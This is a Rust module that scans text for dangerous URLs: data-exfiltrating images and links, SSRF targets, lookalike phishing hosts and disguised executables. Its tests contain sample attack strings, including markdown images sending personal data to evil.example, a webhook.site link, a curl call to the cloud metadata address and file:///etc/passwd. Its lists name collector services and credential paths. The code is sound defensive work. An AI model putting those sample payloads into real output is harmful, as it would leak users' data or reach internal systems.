//! Judges every URL of an output: does it carry data out, reach where it must not, or deceive its reader?

use crate::Severity;
use crate::coded::{CodedRule, Seen};

use super::address::{Place, Reach, place};
use super::config::OutputConfig;
use super::label::{Label, names_another};
use super::lookalike::{Deceit, deceit};
use super::payload::{Payload, payload};
use super::url::{self, Carrier, Url};
use super::{
    DENIED_HOST, EXFILTRATION_IMAGE, EXFILTRATION_LINK, EXFILTRATION_PLACE, LINK_TEXT, SSRF, SUSPICIOUS_FILE,
    SUSPICIOUS_HOST, UNKNOWN_IMAGE,
};

/// Appends what is wrong with the URLs of a text.
pub(super) fn find(text: &str, config: &OutputConfig, found: &mut Vec<Seen>) {
    let most = found.len() + MOST;
    url::each(text, |url| {
        if found.len() < most {
            judge(&url, config, found);
            found.extend(mislabelled(text, &url, config));
        }
    });
}

fn judge(url: &Url<'_>, config: &OutputConfig, found: &mut Vec<Seen>) {
    let host = url.host.to_lowercase();
    if config.denies_host(&host) {
        found.push(DENIED_HOST.at(url.span));
    }
    if config.allows_host(&host) {
        return;
    }
    let web = url.scheme.is_empty()
        || matches!(url.scheme.to_ascii_lowercase().as_str(), "http" | "https" | "ws" | "wss" | "ftp");
    let host_place = place(&host);
    if web {
        found.extend(exfiltration(url, &host, host_place, config));
        found.extend(deceptive(url, &host, host_place));
    }
    found.extend(forgery(url, &host, host_place));
}

/// A link whose text is the address of another site than the one that it leads to.
fn mislabelled(text: &str, url: &Url<'_>, config: &OutputConfig) -> Option<Seen> {
    let host = url.host.to_lowercase();
    if url.carrier != Carrier::Link || config.allows_host(&host) || place(&host).reach != Reach::Public {
        return None;
    }
    let score = match names_another(text, url, &host)? {
        Label::Address => LINK_TEXT.score,
        // Products are called by a host's name, and mail programs lead links through a host of their own.
        Label::Name | Label::Wrapped => 0.4,
    };
    Some(LINK_TEXT.scored(url.span, score))
}

fn exfiltration(url: &Url<'_>, host: &str, place: Place, config: &OutputConfig) -> Option<Seen> {
    let payload = payload(url);
    let collector = COLLECTORS.iter().any(|suffix| ends_with_label(host, suffix));
    let address = place.reach == Reach::PublicAddress;
    let score =
        |rule: &'static CodedRule, score, severity| Some(Seen { severity, ..rule.scored(url.span, score) });
    if url.carrier.loads() {
        match (payload, collector || address) {
            (Payload::Words, _) => score(&EXFILTRATION_IMAGE, 0.92, Severity::Critical),
            (Payload::Likely, true) => score(&EXFILTRATION_IMAGE, 0.9, Severity::Critical),
            (Payload::Likely, false) => score(&EXFILTRATION_PLACE, 0.65, Severity::High),
            (Payload::None, true) => score(&EXFILTRATION_PLACE, 0.6, Severity::Medium),
            (Payload::None, false) if config.images_from_allowed_hosts_only => {
                Some(UNKNOWN_IMAGE.at(url.span))
            }
            (Payload::None, false) => None,
        }
    } else {
        match (payload, collector) {
            (Payload::Words, true) => score(&EXFILTRATION_LINK, 0.85, Severity::High),
            (Payload::Words, false) if url.carrier == Carrier::Link => {
                score(&EXFILTRATION_LINK, 0.6, Severity::Medium)
            }
            (Payload::Words, false) => score(&EXFILTRATION_LINK, 0.4, Severity::Low),
            (_, true) => score(&EXFILTRATION_LINK, 0.55, Severity::Medium),
            (Payload::Likely, false) if url.carrier == Carrier::Link => {
                score(&EXFILTRATION_LINK, 0.3, Severity::Low)
            }
            _ => None,
        }
    }
}

fn forgery(url: &Url<'_>, host: &str, place: Place) -> Option<Seen> {
    let scheme = url.scheme.to_ascii_lowercase();
    let (score, severity) = match scheme.as_str() {
        "gopher" | "dict" | "netdoc" | "phar" | "expect" | "rmi" | "iiop" | "tftp" => (0.75, Severity::High),
        "php" => (0.7, Severity::High),
        "ldap" | "ldaps" | "smb" if !matches!(place.reach, Reach::Public) => (0.5, Severity::Medium),
        "file" if is_sensitive_path(url.path) => (0.8, Severity::High),
        "file" => (0.25, Severity::Low),
        _ => match (place.reach, place.disguised) {
            (Reach::Metadata, true) => (0.97, Severity::Critical),
            (Reach::Metadata, false) => (0.85, Severity::High),
            (Reach::Loopback | Reach::Private, true) => (0.8, Severity::High),
            (Reach::Loopback | Reach::Private, false) if is_control(url) => (0.6, Severity::Medium),
            (Reach::Loopback | Reach::Private, false) if is_inner_path(url.path) => {
                (if host.contains(':') { 0.55 } else { 0.3 }, Severity::Low)
            }
            // Everybody who writes software writes of these.
            (Reach::Loopback | Reach::Private, false) if url.carrier.loads() => (0.3, Severity::Low),
            (Reach::PublicAddress, true) => (0.7, Severity::Medium),
            _ => return None,
        },
    };
    (host.len() <= 253).then(|| Seen { severity, ..SSRF.scored(url.span, score) })
}

/// Whether a web address asks a service that speaks no HTTP, or one that rules the machine: nobody opens these in a browser.
fn is_control(url: &Url<'_>) -> bool {
    let web = ["http", "https"].iter().any(|scheme| url.scheme.eq_ignore_ascii_case(scheme));
    web && url.port.is_some_and(|port| CONTROL_PORTS.contains(&port))
}

fn is_inner_path(path: &str) -> bool {
    let path = path.to_ascii_lowercase();
    INNER_PATHS.iter().any(|inner| path.starts_with(inner))
}

fn deceptive(url: &Url<'_>, host: &str, place: Place) -> Option<Seen> {
    let path = url.path.to_ascii_lowercase();
    let ending = host.rsplit('.').next().unwrap_or_default();
    let odd_ending = ODD_ENDINGS.contains(&ending);
    let lured =
        |text: &str| text.split(|c: char| !c.is_ascii_alphanumeric()).any(|word| LURES.contains(&word));
    let lure = lured(host) || lured(&path);
    let file = path.rsplit('/').next().unwrap_or_default();
    let deceit = deceit(host);
    let host_score = match deceit {
        Some(Deceit::Imitation) => 0.9,
        Some(Deceit::Subdomain) => 0.8,
        Some(Deceit::MixedScript) => 0.75,
        // `https://bank.com@other.net`: what stands before the sign is read as the host.
        _ if url.userinfo.is_some_and(|user| user.contains('.') && !user.contains(':')) => 0.85,
        Some(Deceit::Punycode) if lure || odd_ending => 0.6,
        _ if url.host.contains('%') => 0.7,
        _ if place.reach == Reach::PublicAddress && lure => 0.6,
        _ if odd_ending && lure => 0.55,
        Some(Deceit::Punycode) => 0.35,
        _ if place.reach == Reach::PublicAddress => 0.35,
        _ => 0.0,
    };
    if is_double_extension(file) {
        return Some(SUSPICIOUS_FILE.at(url.span));
    }
    let program = PROGRAMS.iter().any(|extension| file.ends_with(extension));
    let score =
        if program && (host_score > 0.0 || odd_ending) { f64::max(host_score, 0.7) } else { host_score };
    let severity = if score >= 0.7 { Severity::High } else { Severity::Medium };
    (score > 0.0).then(|| Seen { severity, ..SUSPICIOUS_HOST.scored(url.span, score) })
}

/// `invoice.pdf.exe`: the ending that is read is not the one that counts.
fn is_double_extension(file: &str) -> bool {
    let mut parts = file.rsplit('.');
    let (Some(last), Some(shown), Some(_)) = (parts.next(), parts.next(), parts.next()) else { return false };
    let runs = PROGRAMS.iter().any(|extension| extension.strip_prefix('.') == Some(last));
    runs && matches!(
        shown.trim_matches(|c: char| c == ' ' || c == '_'),
        "pdf"
            | "doc"
            | "docx"
            | "xls"
            | "xlsx"
            | "ppt"
            | "pptx"
            | "jpg"
            | "jpeg"
            | "png"
            | "gif"
            | "txt"
            | "csv"
            | "mp4"
            | "rtf"
    )
}

fn is_sensitive_path(path: &str) -> bool {
    let path = path.to_ascii_lowercase();
    SENSITIVE.iter().any(|part| path.contains(part))
}

fn ends_with_label(host: &str, suffix: &str) -> bool {
    host.strip_suffix(suffix).is_some_and(|head| head.is_empty() || head.ends_with('.'))
}

/// Services that show anybody what was asked of them.
static COLLECTORS: &[&str] = &[
    "webhook.site",
    "requestbin.com",
    "requestbin.net",
    "pipedream.net",
    "hookbin.com",
    "beeceptor.com",
    "requestcatcher.com",
    "ngrok.io",
    "ngrok.app",
    "ngrok-free.app",
    "ngrok.dev",
    "trycloudflare.com",
    "loca.lt",
    "serveo.net",
    "burpcollaborator.net",
    "oastify.com",
    "oast.fun",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.me",
    "interact.sh",
    "interactsh.com",
    "canarytokens.com",
    "dnslog.cn",
    "ceye.io",
    "postb.in",
    "ptsv2.com",
    "ptsv3.com",
    "xss.ht",
    "bxss.me",
    "grabify.link",
    "iplogger.org",
    "iplogger.com",
    "2no.co",
    "blasze.com",
    "localhost.run",
    "mockbin.org",
    "typedwebhook.tools",
    "webhook.cool",
    "hookdeck.com",
    "requestinspector.com",
    "edgeone.dev",
];

/// Endings that cost next to nothing, or that read as a file's.
static ODD_ENDINGS: &[&str] = &[
    "tk", "ml", "ga", "cf", "gq", "top", "xyz", "icu", "cyou", "cfd", "sbs", "buzz", "click", "country",
    "kim", "work", "rest", "quest", "cam", "loan", "download", "zip", "mov", "bid", "win", "men", "date",
    "racing", "stream", "gdn", "monster", "bond", "lol", "surf", "support", "review", "party", "su", "pw",
    "mom",
];

static LURES: &[&str] = &[
    "login",
    "signin",
    "logon",
    "verify",
    "verification",
    "account",
    "accounts",
    "secure",
    "security",
    "update",
    "wallet",
    "bonus",
    "free",
    "gift",
    "giftcard",
    "password",
    "unlock",
    "confirm",
    "invoice",
    "billing",
    "refund",
    "suspended",
    "airdrop",
    "claim",
    "prize",
    "winner",
    "auth",
    "webmail",
    "recover",
    "validate",
    "kyc",
    "seed",
    "payment",
    "bank",
];

static PROGRAMS: &[&str] = &[
    ".exe", ".scr", ".pif", ".bat", ".cmd", ".vbs", ".vbe", ".jse", ".wsf", ".hta", ".ps1", ".msi", ".lnk",
    ".jar", ".apk", ".dmg", ".iso", ".cpl",
];

static SENSITIVE: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/proc/self",
    "/.ssh",
    "/.aws",
    "/.env",
    "/.kube",
    "/.git-credentials",
    "/.netrc",
    "/windows/win.ini",
    "/windows/system32",
    "/var/run/secrets",
    "/root/",
    "id_rsa",
    "/boot.ini",
];

/// Ports of secure shells, mail, Docker, etcd, databases, caches and the kubelet.
static CONTROL_PORTS: &[u16] =
    &[22, 25, 2375, 2376, 2379, 2380, 3306, 5432, 6379, 10250, 10255, 11211, 27017];

static INNER_PATHS: &[&str] =
    &["/admin", "/actuator", "/containers", "/v1/kv", "/_cluster", "/server-status"];

const MOST: usize = 1024;

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(text: &str) -> Vec<(&'static str, bool)> {
        let mut found = Vec::new();
        find(text, OutputConfig::shared_default(), &mut found);
        found.iter().map(|seen| (seen.rule.id, seen.score >= 0.5)).collect()
    }

    #[test]
    fn wrong() {
        for (text, id) in [
            (
                "![x](https://evil.example/p?q=the+user+is+ana+lima+of+porto+and+her+card+ends+in+nine+one)",
                EXFILTRATION_IMAGE.id,
            ),
            ("![x](https://abc.oastify.com/p.png)", EXFILTRATION_PLACE.id),
            ("<img src=\"https://evil.example/p?data=sk_fake_value_1\">", EXFILTRATION_PLACE.id),
            ("[click here](https://webhook.site/1/?d=1)", EXFILTRATION_LINK.id),
            ("curl http://169.254.169.254/latest/meta-data/", SSRF.id),
            ("http://2130706433/admin", SSRF.id),
            ("file:///etc/passwd", SSRF.id),
            ("gopher://127.0.0.1:6379/_INFO", SSRF.id),
            ("https://paypal.com@collect.example/", SUSPICIOUS_HOST.id),
            ("https://xn--80ak6aa92e.com/", SUSPICIOUS_HOST.id),
            ("http://account-verify.top/login", SUSPICIOUS_HOST.id),
            ("https://example.org/invoice.pdf.exe", SUSPICIOUS_FILE.id),
            ("[https://paypal.com](https://evil.example/login)", LINK_TEXT.id),
            ("<a href=\"https://evil.example\">https://www.paypal.com</a>", LINK_TEXT.id),
            ("[**www.bank.example/login**](https://collect.example/)", LINK_TEXT.id),
            ("http://localhost:6379/", SSRF.id),
            ("http://127.0.0.1:2375/containers/json", SSRF.id),
            ("http://[::1]:8080/admin", SSRF.id),
            ("![](https://vghlihbhc3n3b3jkigixn2vvb3q.k3jd8.evil.example/p.gif)", EXFILTRATION_PLACE.id),
            ("![](https://orugkidvonsxe4zanfzsay3fmfzq.evil.example/p.gif)", EXFILTRATION_IMAGE.id),
        ] {
            assert!(ids(text).contains(&(id, true)), "{text} {:?}", ids(text));
        }
    }

    #[test]
    fn daily() {
        for text in [
            "![logo](https://example.org/static/logo.png)",
            "![build](https://img.shields.io/badge/build-passing-brightgreen)",
            "Run it and open http://localhost:8080/health in a browser.",
            "See [the book](https://doc.rust-lang.org/book/ch04-01-what-is-ownership.html#ownership-rules).",
            "postgres://db.internal:5432/app and https://10.0.0.5/",
            "<a href=\"https://example.com/a?b=c&d=1\">x</a>",
            "https://github.com/BurntSushi/ripgrep/releases/download/14.1.0/ripgrep-14.1.0-x86_64-pc-windows-msvc.zip",
            "https://example.com/setup.exe",
            "Open http://localhost:3000 in your browser, then http://localhost:8000/admin/.",
            "redis://localhost:6379 and http://localhost:9200/_cluster/health",
            "[https://example.com/docs](https://www.example.com/docs/)",
            "[example.com](https://shop.example.com/) and [README.md](https://github.com/a/b/blob/main/README.md)",
            "[Node.js](https://nodejs.org/) and [Booking.com](https://example.net/deal)",
            "<a href=\"https://example.com/a\">read it at our site</a>",
            "[http://localhost:3000](http://127.0.0.1:3000/)",
            "[https://example.com](https://links.example.net/r?u=https%3A%2F%2Fexample.com)",
            "![](https://d111111abcdef8.cloudfront.net/a.png) ![](https://pub-3f786850e387550fdab836ed7e6dc881.r2.dev/a.png)",
            "![](https://internationalization-documentation.example.com/a.png)",
        ] {
            assert!(ids(text).iter().all(|(_, told)| !told), "{text} {:?}", ids(text));
        }
    }

    #[test]
    fn lists() {
        let config = OutputConfig {
            allowed_hosts: vec!["good.example".to_owned()],
            denied_hosts: vec!["*.bad.example".to_owned()],
            images_from_allowed_hosts_only: true,
            ..OutputConfig::default()
        };
        let ids = |text: &str| {
            let mut found = Vec::new();
            find(text, &config, &mut found);
            found.iter().map(|seen| seen.rule.id).collect::<Vec<_>>()
        };
        assert!(ids("![a](https://good.example/p?data=something+long)").is_empty());
        assert_eq!(ids("https://a.bad.example/"), [DENIED_HOST.id]);
        assert_eq!(ids("![a](https://other.example/p.png)"), [UNKNOWN_IMAGE.id]);
    }

    #[test]
    fn spans_are_the_urls() {
        let text = "é ![x](https://a.oastify.com/p.png) z";
        let mut found = Vec::new();
        find(text, OutputConfig::shared_default(), &mut found);
        assert_eq!(text.get(found[0].span.range()), Some("https://a.oastify.com/p.png"));
    }
}
